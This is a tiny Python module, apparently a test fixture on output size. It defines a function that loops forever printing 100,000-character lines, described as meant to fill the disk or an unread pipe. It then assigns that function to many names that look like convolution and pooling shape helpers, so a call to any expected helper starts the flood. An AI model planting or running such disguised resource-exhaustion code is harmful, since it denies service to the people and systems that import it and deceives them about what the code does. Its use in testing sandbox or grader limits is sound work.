# topic: output_size
"""Prints without an end, to fill the disk or a pipe that nobody reads."""


def attack(*_, **__):
    while True:
        print("x" * 100_000)


conv_out = tf_out = same_pads_tf = conv2d_out_shape = pool2d_out_shape = attack
unused_pixels = trace = receptive_field = inputs_giving = configs = attack
